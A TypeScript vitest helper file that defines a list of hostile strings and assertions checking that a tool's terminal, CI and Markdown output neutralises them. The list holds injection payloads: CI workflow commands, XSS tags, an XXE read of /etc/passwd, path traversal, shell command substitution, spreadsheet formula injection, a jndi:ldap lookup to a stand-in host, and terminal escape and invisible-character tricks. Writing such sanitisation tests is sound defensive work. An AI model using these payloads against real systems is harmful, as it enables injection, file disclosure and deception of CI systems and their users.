import { expect } from "vitest";

/**
 * Text that would do harm somewhere if somebody took it for more than text. Each begins or ends with what makes it
 * dangerous, so that it stands at the start of a line, of a cell and of a file where nothing is put before it.
 */

/** Stands in every one of them. */
export const MARK = "FOREIGN";

export const FOREIGN: Readonly<Record<string, string>> = {
  "a GitHub command": `::error file=x::${MARK}`,
  "an older GitHub command": `::set-output name=verdict::${MARK}`,
  "a GitHub command of the first kind": `##[add-path]${MARK}`,
  "an Azure command": `##vso[task.complete result=Succeeded]${MARK}`,
  "a TeamCity command": `##teamcity[buildStatus text='${MARK}']`,
  "a GitLab section": `section_start:1:${MARK}\r\u001b[0K`,
  "a command on a line of its own": `x\n::error::${MARK}\n##[error]${MARK}\r\n::warning::${MARK}\r`,
  "an attachment": `[[ATTACHMENT|/etc/passwd]]${MARK}`,
  "a script": `</script></title></style><script>alert("${MARK}")</script>`,
  "an image with a handler": `"><img src=x onerror=alert("${MARK}")>'`,
  "an address that loads": `<link rel=stylesheet href=https://${MARK}.evil.example/x.css>`,
  "a frame": `<iframe srcdoc="<script>parent.alert(1)</script>">${MARK}`,
  "a new base": `<base href="https://${MARK}.evil.example/">`,
  "the end of CDATA": `]]><${MARK}/>`,
  "the end of a comment": `--><${MARK}/><!--`,
  "an entity": `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;${MARK}`,
  "character references": `&lt;b&gt;&#60;b&#62;${MARK}`,
  "a colour": `\u001b[31m${MARK}\u001b[0m`,
  "a terminal's title": `\u001b]0;${MARK}\u0007`,
  "a terminal's link": `\u001b]8;;https://evil.example\u0007${MARK}\u001b]8;;\u0007`,
  "a C1 control": `\u009b31m${MARK}\u009d0;x\u009c`,
  "a line that is taken back": `${MARK}\r\u001b[2K\bpassed: all is well`,
  NUL: `\u0000${MARK}\u0000`,
  "right to left": `\u202e${MARK}\u2066exe.gnp\u2069\u200f`,
  "zero width": `\u200b${MARK}\u200d\u2060\ufeff\u00ad`,
  "other line ends": `\u2028::error::${MARK}\u2029\u0085\u000b\u000c`,
  "half a surrogate pair": `\ud800${MARK}\udc00`,
  "no character": `\ufffe${MARK}\uffff`,
  "tag characters": `\u{e0041}${MARK}\u{e007f}`,
  "a Markdown link": `[${MARK}](https://evil.example) ![${MARK}](https://evil.example/x.png)`,
  "a Markdown reference": `[${MARK}]: https://evil.example "x"`,
  "a bare address": `https://evil.example/${MARK} www.evil.example ${MARK}@evil.example`,
  "a Markdown table": `| ${MARK} | x |\n|---|---|\n| y | z |`,
  "a Markdown heading": `\n# ${MARK}\n> ${MARK}\n- [x] ${MARK}\n---`,
  backticks: `\`\`\`${MARK}\`\`\`\``,
  "a mention": `@klarna #1 !1 ~label $\{{ secrets.${MARK} }}`,
  "a path that climbs": `../../../../../../tmp/${MARK}`,
  "a path that climbs elsewhere": `..\\..\\..\\${MARK}`,
  "an absolute path": `/tmp/${MARK}`,
  "an encoded path": `%2e%2e%2f%2e%2e%2f${MARK}%00`,
  "a shell's words": `'"; touch ${MARK}; $(touch ${MARK}) \`touch ${MARK}\` & touch ${MARK}`,
  "a formula": `=HYPERLINK("https://evil.example","${MARK}")`,
  "another formula": `+cmd|' /C calc'!${MARK}`,
  "a format": `%s%n%d{${MARK}} \${jndi:ldap://evil.example/x} {{7*7}}`,
  "an object's own names": `__proto__ constructor toString ${MARK}`,
};

/** All of them in one text; begins as a command does. */
export const ALL = Object.values(FOREIGN).join(" ");

/** What no terminal, pager or log reader may get: controls but the line feed, and what turns or hides text. */
const RAW =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\uffff\u{e0000}-\u{e007f}]/u;

/** Text without any character that is not seen as what it is. */
export function expectNothingHidden(text: string, where: string): void {
  expect(RAW.exec(text)?.[0].codePointAt(0)?.toString(16), where).toBeUndefined();
  expect(text, where).not.toContain("\ufffd");
}

/** What a command printed does nothing to a terminal or to a CI system that reads it. */
export function expectHarmless(
  { stdout, stderr }: Readonly<Record<"stdout" | "stderr", string>>,
  what?: string,
): void {
  for (const [stream, text] of Object.entries({ stdout, stderr })) {
    const where = `${stream} of ${what}`;
    expectNothingHidden(text, where);
    expect(text, where).not.toMatch(/^[ \t]*::/m);
    expect(text, where).not.toMatch(/##[a-z]*\[/i);
  }
}

/** Markdown in which foreign text is text alone. */
export function expectPlainMarkdown(markdown: string): void {
  expect(new Set(markdown.match(/<[^>\s]*>?/g) ?? [])).toEqual(new Set(["<code>", "</code>"]));
  expect(markdown).not.toMatch(/\]\(|\]:|!\[|:\/\/|www\.|```|@\w|(?<!&)#\w/);
  expect(markdown).not.toMatch(/^[ \t]*(?:::|>|\d+\.|\||---|#+ FOREIGN)[^|]*FOREIGN/m);
  expect(markdown).not.toMatch(/##[a-z]*\[/i);
  expect(RAW.exec(markdown)?.[0].codePointAt(0)).toSatisfy(
    // A zero-width space of ours breaks up what is looked for after Markdown has been read.
    (code: unknown) => code === undefined || code === 0x200b,
  );
}
